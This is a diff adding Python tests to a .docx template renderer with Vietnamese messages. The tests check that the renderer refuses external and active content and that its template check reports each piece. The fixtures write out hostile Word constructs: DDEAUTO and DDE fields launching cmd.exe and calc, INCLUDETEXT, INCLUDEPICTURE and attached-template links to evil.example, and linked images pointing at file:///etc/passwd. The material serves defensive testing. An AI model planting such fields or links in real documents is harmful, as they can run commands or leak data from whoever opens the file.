@@ -570,3 +570,165 @@ def test_a_template_whose_main_part_is_not_the_one_checked_is_refused(tmp_path):
     result = template_check(path)
     assert result.exit_code == 1
     assert f"phần chính của tệp {path} là word/khac.xml, không phải word/document.xml" in result.output
+
+
+# --- external and active content: refused when rendering, reported by template check -----------
+
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+MS_REL = "http://schemas.microsoft.com/office/2006/relationships"
+CT = "application/vnd.openxmlformats-officedocument"
+
+
+def add_parts(path: Path, parts: dict) -> None:
+    """Add parts (zip name -> bytes) to the .docx at ``path``."""
+    import io
+    import zipfile
+
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(path.read_bytes())) as source, zipfile.ZipFile(out, "w") as target:
+        for item in source.infolist():
+            target.writestr(item, source.read(item.filename))
+        for name, data in parts.items():
+            target.writestr(name, data)
+    path.write_bytes(out.getvalue())
+
+
+def relation(ident: str, kind: str, target: str, external: bool = False, base: str = REL) -> str:
+    mode = ' TargetMode="External"' if external else ""
+    return f'<Relationship Id="{ident}" Type="{base}/{kind}" Target="{target}"{mode}/>'
+
+
+def add_relations(path: Path, *relations: str, part: str = "word/_rels/document.xml.rels") -> None:
+    edit_template(path, "</Relationships>", "".join(relations) + "</Relationships>", part=part)
+
+
+def add_content_type(path: Path, entry: str) -> None:
+    edit_template(path, "</Types>", entry + "</Types>", part="[Content_Types].xml")
+
+
+def after_agency_mark(path: Path, xml: str, part: str = "word/document.xml") -> None:
+    """Put ``xml`` (runs) in the agency mark's paragraph."""
+    edit_template(path, "{{ agency_mark }}</w:t></w:r>", "{{ agency_mark }}</w:t></w:r>" + xml, part=part)
+
+
+def field(code_pieces: list) -> str:
+    """A complex field whose code Word split over runs."""
+    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in code_pieces)
+    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+            '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
+
+
+def remote_attached_template(path: Path) -> None:
+    add_parts(path, {"word/_rels/settings.xml.rels": (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
+        '"http://schemas.openxmlformats.org/package/2006/relationships">'
+        + relation("rId1", "attachedTemplate", "http://evil.example/evil.dotm", external=True) + "</Relationships>")})
+    edit_template(path, "</w:settings>", '<w:attachedTemplate r:id="rId1"/></w:settings>', part="word/settings.xml")
+
+
+def linked_images(path: Path) -> None:
+    add_relations(path, relation("rId90", "image", "http://evil.example/logo.png", external=True),
+                  relation("rId91", "image", "file:///etc/passwd", external=True),
+                  relation("rId92", "image", "\\\\may-chu\\chia-se\\logo.png", external=True))
+
+
+def ole_object(path: Path) -> None:
+    add_parts(path, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(60)})
+    add_content_type(path, f'<Override PartName="/word/embeddings/oleObject1.bin" ContentType="{CT}.oleObject"/>')
+    add_relations(path, relation("rId93", "oleObject", "embeddings/oleObject1.bin"))
+    after_agency_mark(path, '<w:r><w:object><o:OLEObject ProgID="Package" r:id="rId93"/></w:object></w:r>')
+
+
+def macros(path: Path) -> None:
+    add_parts(path, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(60)})
+    add_content_type(path, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
+    edit_template(path, f"{CT}.wordprocessingml.document.main+xml",
+                  "application/vnd.ms-word.document.macroEnabled.main+xml", part="[Content_Types].xml")
+    add_relations(path, relation("rId94", "vbaProject", "vbaProject.bin", base=MS_REL))
+
+
+def alt_chunk(path: Path) -> None:
+    add_parts(path, {"word/afchunk.htm": b"<html><body>Chen vao</body></html>"})
+    add_content_type(path, '<Default Extension="htm" ContentType="text/html"/>')
+    add_relations(path, relation("rId95", "aFChunk", "afchunk.htm"))
+    edit_template(path, "<w:sectPr", '<w:altChunk r:id="rId95"/><w:sectPr')
+
+
+def fields(path: Path) -> None:
+    after_agency_mark(path, field([" INCLUDE", 'TEXT "http://evil.example/a.docx" ']))
+    after_agency_mark(path, '<w:fldSimple w:instr=\' LINK Excel.Sheet.8 "C:\\\\so-lieu.xls" "Sheet1" \'/>')
+    edit_template(path, "<w:p><w:pPr/></w:p>", '<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "http://evil.example/x.png" '
+                  '\\d \'/></w:p>', part="word/header1.xml")
+    edit_template(path, " PAGE ", ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ', part="word/header2.xml")
+    after_agency_mark(path, field([" dde ", 'cmd "/c calc"']))
+
+
+HOSTILE = {
+    "remote attached template": (remote_attached_template, [
+        "word/_rels/settings.xml.rels: mẫu đính kèm (attachedTemplate) lấy từ bên ngoài: http://evil.example/evil.dotm"]),
+    "linked images": (linked_images, [
+        "word/_rels/document.xml.rels: ảnh liên kết lấy từ bên ngoài: http://evil.example/logo.png",
+        "word/_rels/document.xml.rels: ảnh liên kết lấy từ bên ngoài: file:///etc/passwd",
+        "word/_rels/document.xml.rels: ảnh liên kết lấy từ bên ngoài: \\\\may-chu\\chia-se\\logo.png"]),
+    "OLE object": (ole_object, [
+        f"word/embeddings/oleObject1.bin: đối tượng OLE nhúng ({CT}.oleObject)",
+        "word/_rels/document.xml.rels: đối tượng OLE: embeddings/oleObject1.bin",
+        "word/document.xml: đối tượng nhúng (OLE, w:object) Package"]),
+    "macros": (macros, [
+        "word/document.xml: tài liệu có macro (.docm) (application/vnd.ms-word.document.macroEnabled.main+xml)",
+        "word/_rels/document.xml.rels: macro VBA: vbaProject.bin",
+        "word/vbaProject.bin: macro VBA (application/vnd.ms-office.vbaProject)"]),
+    "altChunk": (alt_chunk, [
+        "word/_rels/document.xml.rels: nội dung chèn từ tệp khác (altChunk): afchunk.htm",
+        "word/document.xml: nội dung chèn từ tệp khác (w:altChunk)"]),
+    "fields": (fields, [
+        'word/document.xml: trường INCLUDETEXT (chèn văn bản từ tệp hay địa chỉ khác): '
+        '«INCLUDETEXT "http://evil.example/a.docx"»',
+        'word/document.xml: trường LINK (liên kết tới nội dung của tệp khác): «LINK Excel.Sheet.8 "C:\\\\so-lieu.xls" "Sheet1"»',
+        'word/document.xml: trường DDE (lấy dữ liệu qua DDE (có thể chạy chương trình)): «dde cmd "/c calc"»',
+        'word/header1.xml: trường INCLUDEPICTURE (chèn ảnh từ tệp hay địa chỉ khác): «INCLUDEPICTURE "http://evil.example/x.png" \\d»',
+        "word/header2.xml: trường DDEAUTO (lấy dữ liệu qua DDE khi mở tệp (có thể chạy chương trình)): "
+        '«DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"»']),
+}
+
+
+@pytest.mark.parametrize("build, pieces", HOSTILE.values(), ids=HOSTILE.keys())
+def test_external_and_active_content_is_refused_when_rendering_each_piece_named(tmp_path, plan, build, pieces):
+    build(copy_package_template(tmp_path))
+    with pytest.raises(TemplateError) as error:
+        Renderer([tmp_path]).render_bytes(plan)
+    message = str(error.value)
+    assert message.startswith(f"Mẫu 'doan/van-ban.docx' bị lỗi: tệp {tmp_path}/doan/van-ban.docx có nội dung "
+                              "lấy từ bên ngoài hoặc nội dung chạy được"), message
+    listed = [line[4:] for line in message.splitlines() if line.startswith("  - ")]
+    assert sorted(listed) == sorted(pieces)
+    assert message.endswith("lưu lại dạng .docx rồi kiểm tra bằng 'vanban template check'.")
+
+
+@pytest.mark.parametrize("build, pieces", HOSTILE.values(), ids=HOSTILE.keys())
+def test_template_check_reports_each_piece_of_external_and_active_content(tmp_path, build, pieces):
+    path = copy_package_template(tmp_path)
+    build(path)
+    result = template_check(path)
+    assert result.exit_code == 1, result.output
+    for piece in pieces:
+        assert any(line.startswith("[lỗi] ") and f"{piece}; vanban không dùng mẫu" in line
+                   for line in result.output.splitlines()), (piece, result.output)
+
+
+def test_template_check_points_at_the_paragraph_of_a_field_in_the_body(tmp_path):
+    path = copy_package_template(tmp_path)
+    fields(path)
+    result = template_check(path)
+    assert "[lỗi] đoạn 7 «{{ agency_mark }}xx»: word/document.xml: trường INCLUDETEXT" in result.output
+
+
+def test_hyperlinks_to_web_and_mail_addresses_are_kept(tmp_path, plan):
+    path = copy_package_template(tmp_path)
+    add_relations(path, relation("rId96", "hyperlink", "https://doanthanhnien.vn/", external=True),
+                  relation("rId97", "hyperlink", "mailto:vp@tinhdoan.example", external=True))
+    after_agency_mark(path, '<w:hyperlink r:id="rId96"><w:r><w:t>trang</w:t></w:r></w:hyperlink>')
+    assert template_check(path).exit_code == 0
+    assert "***trang" in text_lines(open_docx(Renderer([tmp_path]).render_bytes(plan)))
+    add_relations(path, relation("rId98", "hyperlink", "file:///C:/Windows/System32/calc.exe", external=True))
+    assert "siêu liên kết lấy từ bên ngoài: file:///C:/Windows/System32/calc.exe" in template_check(path).output
